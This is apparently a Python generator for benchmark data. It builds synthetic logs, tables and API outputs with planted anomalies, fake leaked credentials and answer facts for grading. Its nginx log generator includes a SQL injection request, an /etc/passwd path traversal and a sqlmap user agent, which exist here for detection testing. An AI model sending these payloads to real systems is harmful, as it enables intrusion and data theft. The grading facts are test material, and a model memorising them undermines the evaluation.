    rows[slow][6] = str(rng.randint(31_000, 58_000))
    rows[blank][8] = ""
    rows[dup][0] = rows[source][0]
    rows[old][7] = "2016-02-29"
    rows[odd][5] = "9.99"
    rows[rare][9] = "compromised"
    rows[lang][3] = "COBOL"
    rows[region][4] = "cn-north-1"
    key = github_token(rng)
    rows[leak][8] = f"bot:{key}"
    stated = n - rng.randint(17, 31)
    head = [
        "# Service catalogue",
        "",
        f"The catalogue lists {stated} services. It is written each night from the registry.",
        "",
        "| Service | Team | Tier | Language | Region | SLO % | p95 ms | Last deploy | Owner | State |",
        "|---|---|---|---|---|---|---|---|---|---|",
    ]
    first = len(head) + 1
    lines = [
        *head,
        *("| " + " | ".join(row) + " |" for row in rows),
        "",
        "Questions: ask in the platform channel.",
    ]

    def at_row(what: str, at: int, tells: list, searches: list[str], common: bool = False) -> Fact:
        return found(what, [services[at]], tells, searches, line=first + at, common=common)

    facts = [
        at_row("outlier", slow, [rows[slow][6]], ["p95", "p95 ms"]),
        at_row("missing field", blank, ["owner", "|  |"], ["Owner", "|  |"], True),
        twice(rows[dup][0], "Service", line=first + dup, both=(str(first + dup), str(first + source))),
        at_row("time jump", old, ["2016-02-29"], ["Last deploy"]),
        at_row("outlier", odd, ["9.99"], ["SLO"]),
        at_row("rare value", rare, ["compromised"], ["State"]),
        at_row("rare value", lang, ["COBOL"], ["Language"]),
        at_row("rare value", region, ["cn-north-1"], ["Region"]),
        secret([services[leak]], ["ghp_", "github", "bot:"], key, ["ghp_", "token"], line=first + leak),
        Fact(
            "contradiction",
            ((str(stated), str(n), "services"), (str(stated), str(n), "rows"), (str(stated), "contradict")),
            ("lists", "services"),
            line=3,
        ),
        tops("Team", [row[1] for row in rows], ["Team", "Orion"]),
        tops("Language", [row[3] for row in rows], ["Language", "Go"]),
        tops("State", [row[9] for row in rows], ["State", "live"]),
    ]
    return "\n".join(lines) + "\n", facts


@kind("python-reprs", "rows")
def python_reprs(rng: random.Random) -> Parts:
    """Rows as mcp-server-sqlite's read_query prints them: the repr of a list of dicts on one line."""
    n = rng.randint(420, 470)
    ids = sorted(rng.sample(range(3_000, 99_000), n))
    moments = times(rng, datetime(2024, 2, 1, 8, 0), n, 7000)
    rows: list[dict] = []
    for at in range(n):
        rows.append(
            {
                "patient_no": f"P{ids[at]}",
                "visited_at": str(moments[at])[:19],
                "ward": weighted(rng, surgery=30, cardiology=24, oncology=15, maternity=10),
                "age": int(rng.triangular(19, 88, 52)),
                "systolic": int(rng.gauss(126, 9)),
                "temperature": round(rng.gauss(36.7, 0.25), 1),
                "insurer": f"INS-{rng.randint(2, 9)}",
                "outcome": weighted(rng, discharged=70, admitted=22, referred=12),
                "physician": f"Dr. {person(rng)}",
                "invoice": round(rng.lognormvariate(5.3, 0.4), 2),
                "follow_up": rng.random() < 0.4,
            }
        )
    age, hot, none, typed, dup, rare, cost, note, back = spots(rng, n, 9)
    source = before(rng, dup, (age, hot, none, typed, dup, rare, cost, note, back))
    rows[age]["age"] = 430
    rows[hot]["temperature"] = 367.0
    rows[none]["physician"] = None
    rows[typed]["systolic"] = "high"
    rows[dup]["patient_no"] = rows[source]["patient_no"]
    rows[rare]["outcome"] = "deceased"
    rows[cost]["invoice"] = round(rng.uniform(71_000, 99_000), 2)
    key = aws_key(rng)
    rows[note]["insurer"] = key
    rows[back]["visited_at"] = "2004" + rows[back]["visited_at"][4:]
    name = [row["patient_no"] for row in rows]
    kept = [row["visited_at"] for at, row in enumerate(rows) if at != back]

    def at_row(what: str, at: int, tells: list, searches: list[str], common: bool = False) -> Fact:
        made = found(what, [name[at]], tells, searches, common=common)
        many = [(tell,) if isinstance(tell, str) else tell for tell in tells]
        return Fact(
            what,
            (*made.evidence, *((*tell, f"{sign}{at}") for tell in many for sign in ("#", "/", "["))),
            tuple(searches),
        )

    leaked = at_row("secret", note, ["AKIA", "aws", "access key"], ["AKIA", "key"])
    facts = [
        at_row("outlier", age, [("430",)], ["age"]),
        at_row("outlier", hot, ["367.0"], ["temperature"]),
        at_row(
            "null value",
            none,
            [("physician", "none"), ("physician", "null"), ("physician", "missing")],
            ["physician", "None"],
            True,
        ),
        at_row("changed type", typed, ["high"], ["systolic"]),
        twice(name[dup], "patient_no", both=(f"#{dup}", f"#{source}")),
        at_row("rare value", rare, ["deceased"], ["outcome", "deceased"]),
        at_row("outlier", cost, [str(rows[cost]["invoice"])], ["invoice"]),
        Fact("secret", leaked.evidence, ("AKIA", "key"), hidden=key),
        at_row("time jump", back, [rows[back]["visited_at"][:10]], ["visited_at"]),
        tops("ward", [row["ward"] for row in rows], tight=True),
        tops("outcome", [row["outcome"] for row in rows], tight=True),
        total(n, RECORDS, ["count"], tight=True),
        reach(kept[0], kept[-1], "visited_at", days=True),
    ]
    return str(rows), facts


@kind("sheet-values", "rows")
def sheet_values(rng: random.Random) -> Parts:
    """Values of a spreadsheet range (Google Sheets API): a list of lists with a header row."""
    n = rng.randint(560, 600)
    head = ["Ticket", "Opened", "Region", "Product", "Priority", "Agent", "Hours", "Cost", "Rating", "State"]
    ids = sorted(rng.sample(range(21_000, 89_000), n))
    opened = times(rng, datetime(2024, 1, 8), n, 60_000)
    rows: list[list] = []
    for at in range(n):
        hours = round(rng.lognormvariate(1.1, 0.5), 2)
        rows.append(
            [
                f"T-{ids[at]}",
                f"{opened[at]:%Y-%m-%d}",
                weighted(rng, North=30, West=24, South=17, East=12),
                weighted(rng, Router=20, Modem=14, Switch=9),
                weighted(rng, P3=40, P2=20, P4=14),
                person(rng),
                hours,
                round(hours * 48, 2),
                rng.choice((3, 4, 4, 5, 5)),
                weighted(rng, closed=70, open=24, waiting=9),
            ]
        )
    short, error, typed, dup, long_, rare, rated, wrong = spots(rng, n, 8)
    source = before(rng, dup, (short, error, typed, dup, long_, rare, rated, wrong))
    rows[short] = rows[short][:6]
    rows[error][7] = "#REF!"
    rows[typed][6] = "3,5 h"
    rows[dup][0] = rows[source][0]
    rows[long_][6] = float(rng.randint(2_900, 4_400))
    rows[long_][7] = round(rows[long_][6] * 48, 2)
    rows[rare][4] = "P0"
    rows[rated][8] = -1
    rows[wrong][7] = round(rows[wrong][7] * 100, 2)
    real = sum(row[7] for row in rows if len(row) > 7 and isinstance(row[7], float))
    stated = round(real * 0.5 + rng.randint(1, 99), 2)
    rows.append(["TOTAL", "", "", "", "", "", "", stated, "", ""])
    name = [row[0] for row in rows]

    def at_row(
        what: str, at: int, cell: int | None, tells: list, searches: list[str], common: bool = False
    ) -> Fact:
        place = f"/values/{at + 1}"
        return found(
            what,
            [name[at]],
            tells,
            searches,
            pointer=place + (f"/{cell}" if cell is not None else ""),
            record=place,
            common=common,
        )

    cells = [row for row in rows[:-1] if len(row) > 9]
    facts = [
        at_row(
            "missing field",
            short,
            None,
            [
                "6 values",
                "6 cells",
                "6 columns",
                "6 fields",
                "short",
                "fewer",
                ("hours", "missing"),
                "6 elements",
                "6 items",
            ],
            ["short row", "columns"],
            True,
        ),
        at_row("error", error, 7, ["#REF!"], ["#REF!", "error"]),
        at_row("changed type", typed, 6, ["3,5 h"], ["Hours", " h"]),
        twice(
            name[dup],
            "Ticket",
            pointer=f"/values/{dup + 1}",
            both=(f"/values/{dup + 1}", f"/values/{source + 1}"),
        ),
        at_row("outlier", long_, 6, [str(int(rows[long_][6]))], ["Hours"]),
        at_row("rare value", rare, 4, ["P0"], ["Priority", "P0"], True),
        at_row("outlier", rated, 8, ["-1"], ["Rating", "-1"], True),
        at_row("outlier", wrong, 7, [str(rows[wrong][7])], ["Cost"]),
        Fact(
            "contradiction",
            ((str(stated), "TOTAL"), (str(stated), "sum"), (str(stated), f"{real:.2f}")),
            ("TOTAL", "sum"),
            f"/values/{n + 1}/7",
        ),
        tops("Region", [row[2] for row in rows[:-1]], ["Region", "North"]),
        tops("State", [row[9] for row in cells], ["State", "closed"]),
        Fact(
            "total",
            tuple((str(n + more), thing) for more in (0, 1, 2) for thing in (*RECORDS, "tickets")),
            ("range", "count"),
        ),
        Fact("time range", ((rows[0][1], rows[n - 1][1]),), ("Opened", rows[0][1][:7])),
    ]
    rows_ = [head, *rows]
    sheet = {"range": f"Tickets!A1:J{n + 2}", "majorDimension": "ROWS", "values": rows_}
    return json.dumps(sheet, indent=2), shown_raw(sheet, facts)


@kind("vertical-records", "rows")
def vertical(rng: random.Random) -> Parts:
    r"""mysql with \G: one block of `name: value` lines per row."""
    n = rng.randint(240, 270)
    moments = times(rng, datetime(2024, 10, 1, 5, 0), n, 3000)
    drop, late, dup, hole, rare, none, root, odd, old = spots(rng, n, 9)
    source = before(rng, dup, (drop, late, dup, hole, rare, none, root, odd, old))
    ids = run_of(rng.randint(510_000, 790_000), n, hole, 4, dup, source)
    rows: list[dict[str, str]] = []
    for at in range(n):
        rows.append(
            {
                "job_id": str(ids[at]),
                "name": name_of(rng),
                "owner": rng.choices(("etl", "billing", "search", "crm"), (8, 5, 3, 2))[0],
                "host": f"batch-{rng.randint(1, 9):02d}",
                "state": weighted(rng, done=78, running=10, queued=14),
                "priority": rng.choice("3456"),
                "started_at": str(moments[at])[:19],
                "run_seconds": str(int(rng.lognormvariate(5, 0.4))),
                "rows_written": str(int(rng.lognormvariate(9, 0.4))),
                "exit_code": "0",
                "retries": rng.choice(("0", "0", "0", "1")),
                "schedule": rng.choice(("hourly", "daily", "weekly")),
                "message": "ok",
            }
        )
    rows[drop] |= {
        "state": "failed",
        "exit_code": "137",
        "message": "killed: memory limit exceeded (8192 MiB)",
    }
    rows[late]["run_seconds"] = str(rng.randint(260_000, 390_000))
    rows[rare]["state"] = "zombie"
    rows[none]["host"] = "NULL"
    key = f"postgres://etl:{token(rng, 11)}@db3.example.com/crm"
    rows[root]["message"] = f"connected to {key}"
    rows[odd]["rows_written"] = "-1"
    rows[old]["started_at"] = "1999-12-31 23:59:59"
    blocks = [
        [f"{'*' * 27} {at + 1}. row {'*' * 27}", *(f"{key_:>12}: {value}" for key_, value in row.items())]
        for at, row in enumerate(rows)
    ]
    text, starts = laid(blocks)
    fields = list(rows[0])

    def at_row(
        what: str, at: int, field: str, tells: list, searches: list[str], common: bool = False
    ) -> Fact:
        name = [f"job_id: {ids[at]}", str(ids[at]), f"{at + 1}. row"]
        return found(what, name, tells, searches, line=starts[at] + 1 + fields.index(field), common=common)

    facts = [
        at_row("error", drop, "message", ["memory limit exceeded", "137"], ["failed", "killed", "exit_code"]),
        at_row("outlier", late, "run_seconds", [rows[late]["run_seconds"]], ["run_seconds"]),
        at_row("rare value", rare, "state", ["zombie"], ["state"]),
        at_row("null value", none, "host", [("host", "null")], ["host", "NULL"], True),
        secret(
            [str(ids[root]), f"{root + 1}. row"],
            ["postgres://", "password", "db3.example.com"],
            key,
            ["postgres://", "password"],
            line=starts[root] + 13,
            context="connected to",
        ),
        at_row("outlier", odd, "rows_written", ["-1"], ["rows_written", "-1"], True),
        at_row("time jump", old, "started_at", ["1999-12-31"], ["started_at"]),
        twice(str(ids[dup]), "job_id", line=starts[dup] + 1, both=(f"{dup + 1}. row", f"{source + 1}. row")),
        gap(
            str(ids[hole - 1]),
            str(ids[hole]),
            [str(ids[hole] - lost) for lost in (4, 3, 2, 1)],
            "job_id",
            line=starts[hole] + 1,
        ),
        tops("state", [row["state"] for row in rows]),
        tops("owner", [row["owner"] for row in rows]),
        total(n, RECORDS, ["rows in set"]),
    ]
    facts = shown_lines(text, facts)
    return text + f"\n{n} rows in set (0.0{rng.randint(2, 9)} sec)\n", facts


_LOGGERS = (
    "c.acme.billing.InvoiceService",
    "c.acme.http.RequestFilter",
    "c.acme.queue.Consumer",
    "c.acme.cache.Warmer",
    "c.acme.db.Pool",
    "c.acme.mail.Sender",
)


def _calm(rng: random.Random, logger: str) -> str:
    return {
        "InvoiceService": f"Invoice INV-{rng.randint(10_000, 99_999)} rendered in {rng.randint(20, 180)} ms",
        "RequestFilter": (
            f"{rng.choice(('GET', 'GET', 'POST'))} /api/{rng.choice(SERVICES)}/{rng.randint(100, 9999)} took"
            f" {rng.randint(4, 160)} ms"
        ),
        "Consumer": (
            f"Processed message {hexes(rng, 10)} of topic {rng.choice(NOUNS)} in {rng.randint(2, 60)} ms"
        ),
        "Warmer": f"Refreshed {rng.randint(10, 400)} keys of region {rng.choice(NOUNS)}",
        "Pool": f"Pool stats: active={rng.randint(2, 14)} idle={rng.randint(3, 20)} waiting=0",
        "Sender": f"Mail {hexes(rng, 8)} handed over to relay-{rng.randint(1, 3)}",
    }[logger.rsplit(".", 1)[1]]


@kind("application-log", "rows")
def application_log(rng: random.Random) -> Parts:
    """A Java application log in the usual Logback pattern: time, level, thread, logger, message."""
    n = rng.randint(1250, 1400)
    error, fatal, slow, leak, pause, rare, config, auth, lost, back = spots(rng, n, 10)
    pause, back = min(pause, back), max(pause, back)
    moments = times(rng, datetime(2024, 5, 14, 6, 30), n, 14)
    moments = [
        moment + (timedelta(minutes=52) if at >= pause else timedelta()) for at, moment in enumerate(moments)
    ]
    moments[back] -= min(timedelta(hours=1, minutes=13), (moments[back] - moments[0]) * 0.6)
    blocks, levels = [], []

    def line(at: int, level: str, logger: str, message: str, thread: str = "") -> str:
        name = thread or f"worker-{rng.randint(1, 8)}"
        return (
            f"{moments[at]:%Y-%m-%d %H:%M:%S}.{rng.randint(0, 999):03d} {level:<5} [{name}] {logger} -"
            f" {message}"
        )

    special = {
        error: (
            "ERROR",
            "c.acme.billing.InvoiceService",
            "Could not book payment PAY-77120: ledger is read-only",
        ),
        fatal: (
            "ERROR",
            "c.acme.queue.Consumer",
            "Consumer stopped: java.lang.OutOfMemoryError: Java heap space",
        ),
        slow: (
            "WARN",
            "c.acme.db.Pool",
            f"Slow query took {rng.randint(310_000, 580_000)} ms: SELECT * FROM ledger_entry",
        ),
        leak: ("DEBUG", "c.acme.http.RequestFilter", f"Outgoing header X-Api-Key: {stripe_key(rng)}"),
        rare: ("WARN", "c.acme.security.CertMonitor", "Certificate of api.acme.example expires in 2 days"),
        config: (
            "INFO",
            "c.acme.admin.ConfigStore",
            "Setting payment.verify_signature changed from true to false by user kbauer",
        ),
        auth: (
            "WARN",
            "c.acme.security.LoginGuard",
            "1840 failed logins for user admin from 198.51.100.23 within 60 s",
        ),
        lost: ("ERROR", "c.acme.queue.Consumer", "Dropped 312 messages of topic refund: offset out of range"),
    }
    for at in range(n):
        if at in special:
            level, logger, message = special[at]
        elif rng.random() < 0.035:
            level, logger = "WARN", "c.acme.mail.Sender"
            message = f"Relay relay-{rng.randint(1, 3)} busy, retry 1 of 5 in {rng.randint(2, 9)} s"
        else:
            level, logger = weighted(rng, INFO=80, DEBUG=20), rng.choices(_LOGGERS, (4, 8, 7, 2, 2, 3))[0]
            message = _calm(rng, logger)
        block = [line(at, level, logger, message)]
        if at in (error, fatal):
            block += [
                (
                    "java.lang.IllegalStateException: ledger is read-only"
                    if at == error
                    else "java.lang.OutOfMemoryError: Java heap space"
                )
            ]
            block += [
                f"\tat {logger}.{name_of(rng, '')}({logger.rsplit('.', 1)[1]}.java:{rng.randint(30, 400)})"
                for _ in range(9)
            ]
        blocks.append(block)
        levels.append(level)
    text, starts = laid(blocks)

    def at_row(what: str, at: int, tells: list, searches: list[str]) -> Fact:
        return found(
            what,
            [f"{moments[at]:%H:%M:%S}", f"{moments[at]:%H:%M}", special[at][1].rsplit(".", 1)[1]],
            tells,
            searches,
            line=starts[at],
        )

    duration = special[slow][2].split()[3]
    facts = [
        at_row("error", error, ["PAY-77120", "ledger is read-only"], ["ERROR", "exception"]),
        at_row("error", fatal, ["OutOfMemoryError"], ["ERROR", "OutOfMemory"]),
        at_row("outlier", slow, [duration], ["slow query", "took"]),
        secret(
            [f"{moments[leak]:%H:%M:%S}"],
            ["X-Api-Key", "sk_live"],
            special[leak][2].split()[-1],
            ["api-key", "sk_live"],
            line=starts[leak],
        ),
        Fact(
            "time jump",
            (
                (f"{moments[pause - 1]:%H:%M}", f"{moments[pause]:%H:%M}"),
                *(
                    (f"{moments[at]:%H:%M}", word)
                    for at in (pause - 1, pause)
                    for word in ("gap", "jump", "pause", "silence")
                ),
            ),
            ("gap", "pause"),
            line=starts[pause],
        ),
        Fact(
            "time jump",
            (
                (f"{moments[back - 1]:%H:%M:%S}", f"{moments[back]:%H:%M:%S}"),
                *(
                    (f"{moments[at]:%H:%M:%S}", word)
                    for at in (back - 1, back)
                    for word in ("back", "earlier", "order", "jump")
                ),
            ),
            ("out of order", "back"),
            line=starts[back],
        ),
        at_row("rare value", rare, ["expires in 2 days"], ["certificate", "expire"]),
        at_row("meaning", config, ["verify_signature"], ["changed", "setting"]),
        at_row("outlier", auth, [("1840", "failed logins"), "198.51.100.23"], ["login", "failed"]),
        at_row("error", lost, ["Dropped 312 messages"], ["dropped", "ERROR"]),
        tops("level", levels, ["INFO", "level"]),
        Fact(
            "counts by level",
            (("ERROR", str(levels.count("ERROR")), "WARN", str(levels.count("WARN"))),),
            ("ERROR", "WARN"),
        ),
        Fact(
            "time range",
            tuple(
                (a.strftime(form), b.strftime(form))
                for a, b in ((moments[0], moments[-1]),)
                for form in ("%Y-%m-%d %H:%M", "%H:%M", "%H:%M:%S")
            ),
            ("2024-05-14", "first line"),
        ),
    ]
    return text + "\n", facts


@kind("access-log", "rows")
def access_log(rng: random.Random) -> Parts:
    """An access log of nginx in the combined format."""
    n = rng.randint(900, 1000)
    agents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Version/17.4 Mobile Safari/604.1",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    ]
    inject, climb, big, broken, method, leak, pause, tool, down, admin = spots(rng, n, 10)
    moments = times(rng, datetime(2024, 4, 22, 0, 1), n, 40)
    moments = [
        moment + (timedelta(hours=1, minutes=34) if at >= pause else timedelta())
        for at, moment in enumerate(moments)
    ]
    rows: list[list[str]] = []
    for at in range(n):
        status = weighted(rng, **{"200": 78, "304": 12, "404": 6, "301": 4})
        path = rng.choice(
            (
                f"/products/{rng.randint(100, 999)}",
                f"/category/{rng.choice(NOUNS)}",
                f"/static/{hexes(rng, 8)}.js",
                f"/api/{rng.choice(SERVICES)}?page={rng.randint(1, 9)}",
            )
        )
        rows.append(
            [
                ip_of(rng, "85.1."),
                weighted(rng, GET=88, POST=12),
                path,
                status,
                "0" if status == "304" else str(int(rng.lognormvariate(8.6, 0.6))),
                f"https://shop.example.com/{rng.choice(NOUNS)}",
                rng.choice(agents),
            ]
        )
    rows[inject][1:4] = ["GET", "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", "200"]
    rows[climb][1:4] = ["GET", "/download?file=../../../../etc/passwd", "200"]
    rows[big][3:5] = ["200", str(rng.randint(3_100_000_000, 5_900_000_000))]
    rows[broken][1:4] = ["POST", "/checkout/confirm", "500"]
    rows[method][1:4] = ["DELETE", "/api/customer/4711", "204"]
    key = jwt(rng)
    rows[leak][2] = f"/reset?access_token={key}"
    rows[tool][6] = "sqlmap/1.8.3#stable (https://sqlmap.org)"
    rows[down][1:4] = ["GET", "/health", "503"]
    rows[admin][0], rows[admin][1:4] = "203.0.113.200", ["POST", "/admin/users/promote", "200"]
    lines = [
        f'{r[0]} - - [{moments[at]:%d/%b/%Y:%H:%M:%S} +0000] "{r[1]} {r[2]} HTTP/1.1" {r[3]} {r[4]} "{r[5]}"'
        f' "{r[6]}"'
        for at, r in enumerate(rows)
    ]

    def at_row(what: str, at: int, tells: list, searches: list[str]) -> Fact:
        return found(what, [rows[at][0], f"{moments[at]:%H:%M:%S}"], tells, searches, line=at + 1)

    facts = [
        at_row("meaning", inject, ["UNION%20SELECT", "sql injection"], ["UNION", "SELECT"]),
        at_row("meaning", climb, ["etc/passwd", "path traversal"], ["../", "passwd"]),
        at_row("outlier", big, [rows[big][4]], ["bytes", "large"]),
        at_row("error", broken, [("checkout/confirm", "500")], [" 500 ", "error"]),
        at_row("rare value", method, [("DELETE", "/api/customer/4711")], ["DELETE"]),
        secret(
            [rows[leak][0], f"{moments[leak]:%H:%M:%S}"],
            ["access_token", "jwt"],
            key,
            ["token"],
            line=leak + 1,
        ),
        Fact(
            "time jump",
            (
                (f"{moments[pause - 1]:%H:%M}", f"{moments[pause]:%H:%M}"),
                *(
                    (f"{moments[at]:%H:%M}", word)
                    for at in (pause - 1, pause)
                    for word in ("gap", "jump", "pause", "silence")
                ),
            ),
            ("gap", "pause"),
            line=pause + 1,
        ),
        at_row("rare value", tool, ["sqlmap"], ["sqlmap", "scanner"]),
        at_row("error", down, [("/health", "503")], [" 503 ", "health"]),
        at_row("meaning", admin, ["/admin/users/promote"], ["admin"]),
        tops("status", [row[3] for row in rows], [" 200 ", "status"]),
        total(n, ("requests", *RECORDS), ["count"]),
        Fact(
            "time range",
            tuple(
                (a.strftime(form), b.strftime(form))
                for a, b in ((moments[0], moments[-1]),)
                for form in ("%d/%b/%Y:%H:%M", "%Y-%m-%d %H:%M", "%Y-%m-%dT%H:%M", "%H:%M:%S")
            ),
            ("22/Apr/2024", "first"),
        ),
    ]
    return "\n".join(lines) + "\n", facts


@kind("logfmt-log", "rows")
def logfmt_log(rng: random.Random) -> Parts:
    """A log of key=value pairs (logfmt), as Go services and Heroku write it."""
    n = rng.randint(700, 780)
    fail, slow, bare, typed, dup, hole, rare, leak, panic, lag = spots(rng, n, 10)
    source = before(rng, dup, (fail, slow, bare, typed, dup, hole, rare, leak, panic, lag))
    ids = run_of(rng.randint(410_000, 870_000), n, hole, 3, dup, source)
    moments = times(rng, datetime(2024, 7, 2, 9, 0), n, 9)
    rows: list[dict[str, str]] = []
    for at in range(n):
        rows.append(
            {
                "ts": zulu(moments[at]),
                "level": weighted(rng, info=84, debug=10, warn=4),
                "svc": rng.choices(("relay", "fanout", "ingest"), (5, 3, 2))[0],
                "msg": '"frame stored"',
                "offset": str(ids[at]),
                "tenant": f"t{rng.randint(10, 60)}",
                "status": weighted(rng, **{"200": 80, "202": 14, "429": 4}),
                "dur": f"{rng.lognormvariate(2.6, 0.4):.1f}ms",
                "bytes": str(int(rng.lognormvariate(7.6, 0.5))),
                "peer": ip_of(rng) + f":{rng.randint(30_000, 60_000)}",
            }
        )
        if rows[at]["level"] == "warn":
            rows[at]["msg"] = '"throttled, will retry"'
    rows[fail] |= {"level": "error", "msg": '"checksum mismatch, frame discarded"', "status": "500"}
    rows[slow]["dur"] = f"{rng.uniform(71_000, 99_000):.1f}ms"
    del rows[bare]["tenant"]
    rows[typed]["status"] = "timeout"
    rows[rare]["svc"] = "shadow-relay"
    key = github_token(rng)
    rows[leak] |= {"level": "debug", "msg": '"upstream login"', "auth": key}
    rows[panic] |= {"level": "fatal", "msg": '"panic: index out of range [7] with length 7"'}
    rows[lag] |= {"level": "warn", "msg": '"clock skew of 41m12s against peer"'}
    lines = [" ".join(f"{name}={value}" for name, value in row.items()) for row in rows]

    def at_row(what: str, at: int, tells: list, searches: list[str], common: bool = False) -> Fact:
        return found(
            what, [f"{ids[at]}", f"{moments[at]:%H:%M:%S}"], tells, searches, line=at + 1, common=common
        )

    facts = [
        at_row("error", fail, ["checksum mismatch"], ["level=error", "error"]),
        at_row("outlier", slow, [rows[slow]["dur"][:-2]], ["dur"]),
        gone([str(ids[bare]), f"{moments[bare]:%H:%M:%S}"], "tenant", line=bare + 1),
        at_row("changed type", typed, ["timeout"], ["status"]),
        twice(str(ids[dup]), "offset", line=dup + 1, both=(str(dup + 1), str(source + 1))),
        gap(
            str(ids[hole - 1]),
            str(ids[hole]),
            [str(ids[hole] - lost) for lost in (3, 2, 1)],
            "offset",
            line=hole + 1,
        ),
        at_row("rare value", rare, ["shadow-relay"], ["svc"]),
        secret(
            [str(ids[leak]), f"{moments[leak]:%H:%M:%S}"],
            ["ghp_", "github", "auth="],
            key,
            ["auth", "token"],
            line=leak + 1,
        ),
        at_row("error", panic, ["index out of range"], ["fatal", "panic"]),
        at_row("rare value", lag, ["clock skew"], ["clock", "warn"]),
        tops("level", [row["level"] for row in rows], ["level", "level=info"]),
        tops("svc", [row["svc"] for row in rows], ["svc", "svc=relay"]),
        total(n, RECORDS, ["count"]),
        Fact(
            "time range",
            ((rows[0]["ts"][:16], rows[-1]["ts"][:16]), (rows[0]["ts"][11:19], rows[-1]["ts"][11:19])),
            ("ts", "2024-07-02"),
        ),
    ]
    return "\n".join(lines) + "\n", facts


def _issue_user(rng: random.Random, login: str) -> dict:
    base = f"https://api.github.com/users/{login}"
    return {
        "login": login,
        "id": rng.randint(10_000, 9_000_000),
        "node_id": "MDQ6" + token(rng, 16),
        "avatar_url": f"https://avatars.example.com/u/{login}?v=4",
        "gravatar_id": "",
        "url": base,
        "html_url": f"https://github.com/{login}",
        "followers_url": f"{base}/followers",
        "repos_url": f"{base}/repos",
        "type": "User",
        "site_admin": False,
    }


@kind("github-issues", "rows")
def github_issues(rng: random.Random) -> Parts:
    """The list of issues of a repository as the REST API of GitHub gives it."""
    n = 100
    logins = [f"{name}{rng.randint(2, 99)}" for name in names_of(rng, 26, "-")]
    numbers = sorted(rng.sample(range(4100, 4600), n), reverse=True)
    opened = sorted(
        (datetime(2024, 3, 1) + timedelta(minutes=rng.randint(0, 250_000)) for _ in range(n)), reverse=True
    )
    items: list[dict] = []
    for at in range(n):
        url = f"https://api.github.com/repos/acme/widgets/issues/{numbers[at]}"
        labels = rng.sample(("bug", "docs", "question", "enhancement", "ui"), rng.choice((1, 1, 2)))
        items.append(
            {
                "url": url,
                "repository_url": "https://api.github.com/repos/acme/widgets",
                "labels_url": url + "/labels{/name}",
                "comments_url": url + "/comments",
                "events_url": url + "/events",
                "html_url": f"https://github.com/acme/widgets/issues/{numbers[at]}",
                "id": 2_100_000_000 + numbers[at] * 37,
                "node_id": "I_kwDO" + token(rng, 14),
                "number": numbers[at],
                "title": (
                    f"{rng.choice(('Cannot', 'Option to', 'How to', 'Improve', 'Allow to'))}"
                    f" {name_of(rng, ' ')} in {rng.choice(NOUNS)} view"
                ),
                "user": _issue_user(rng, rng.choice(logins)),
                "labels": [
                    {"id": 900 + len(label), "name": label, "color": "d73a4a", "default": label == "bug"}
                    for label in labels
                ],
                "state": "open",
                "locked": False,
                "assignee": None if rng.random() < 0.6 else _issue_user(rng, rng.choice(logins)),
                "milestone": None,
                "comments": min(19, int(rng.expovariate(0.35))),
                "created_at": zulu(opened[at]),
                "updated_at": zulu(opened[at] + timedelta(hours=rng.randint(2, 90))),
                "closed_at": None,
                "author_association": weighted(rng, NONE=60, CONTRIBUTOR=25, MEMBER=15),
                "body": paragraph(rng, 2, 5),
                "reactions": {"total_count": rng.choice((0, 0, 1, 2)), "+1": 0, "-1": 0},
                "state_reason": None,
            }
        )
    loss, breach, talk, leak, closed, locked, bare, odd, stale = spots(rng, n, 9, apart=5)
    items[loss]["title"] = "Data loss: saving a draft deletes all attachments"
    items[breach]["labels"].append({"id": 977, "name": "security", "color": "ff0000", "default": False})
    items[talk]["comments"] = rng.randint(412, 690)
    key = github_token(rng)
    items[leak]["body"] += f" I ran it with GITHUB_TOKEN={key} on my machine."
    items[closed] |= {
        "state": "closed",
        "closed_at": zulu(opened[closed] + timedelta(days=1)),
        "state_reason": "not_planned",
    }
    items[locked]["locked"] = True
    items[locked]["active_lock_reason"] = "too heated"
    del items[bare]["user"]
    items[odd]["milestone"] = {"title": "v9.0 release blocker", "number": 14, "state": "open"}
    items[stale]["created_at"] = "2015-06-30T11:20:00Z"
    kept = [item["created_at"] for at, item in enumerate(items) if at != stale]

    def at_row(
        what: str, at: int, field: str, tells: list, searches: list[str], common: bool = False
    ) -> Fact:
        return found(
            what, [str(numbers[at])], tells, searches, pointer=f"/{at}{field}", record=f"/{at}", common=common
        )

    shut = at_row("rare value", closed, "/state", ["not_planned"], ["closed", "state"])
    shut = replace(
        shut, evidence=(*shut.evidence, *((who, "closed") for who in (str(numbers[closed]), f"#{closed}")))
    )
    labels = [label["name"] for item in items for label in item["labels"]]
    facts = [
        at_row("error", loss, "/title", ["Data loss"], ["data loss", "delete"]),
        at_row(
            "rare value",
            breach,
            f"/labels/{len(items[breach]['labels']) - 1}/name",
            ["security"],
            ["security", "labels"],
        ),
        at_row("outlier", talk, "/comments", [str(items[talk]["comments"])], ["comments"]),
        secret(
            [str(numbers[leak])],
            ["GITHUB_TOKEN", "ghp_"],
            key,
            ["token", "ghp_"],
            pointer=f"/{leak}/body",
            record=f"/{leak}",
            context="GITHUB_TOKEN=",
        ),
        shut,
        at_row("rare value", locked, "/locked", ["too heated", "locked"], ["locked"], True),
        gone([str(numbers[bare])], "user", record=f"/{bare}"),
        at_row("rare value", odd, "/milestone/title", ["release blocker"], ["milestone", "blocker"]),
        at_row("outlier", stale, "/created_at", ["2015-06-30"], ["created_at", "oldest"]),
        tops("labels", labels, ["labels", "bug"]),
        tops("author_association", [item["author_association"] for item in items]),
        reach(min(kept), max(kept), "created_at", days=True),
        total(n, ("issues", *RECORDS), ["count", "issues"]),
    ]
    return json.dumps(items, indent=2), shown_raw(items, facts)
